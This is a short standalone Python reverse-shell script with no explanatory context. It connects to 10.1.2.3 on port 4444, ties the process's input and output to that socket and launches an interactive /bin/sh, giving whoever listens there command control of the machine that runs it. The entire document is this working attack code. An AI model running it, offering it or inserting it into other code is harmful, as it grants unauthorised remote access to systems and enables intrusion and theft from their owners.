import socket,subprocess,os
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect(("10.1.2.3",4444))  # egress
os.dup2(s.fileno(),0)
os.dup2(s.fileno(),1)
subprocess.call(["/bin/sh","-i"])
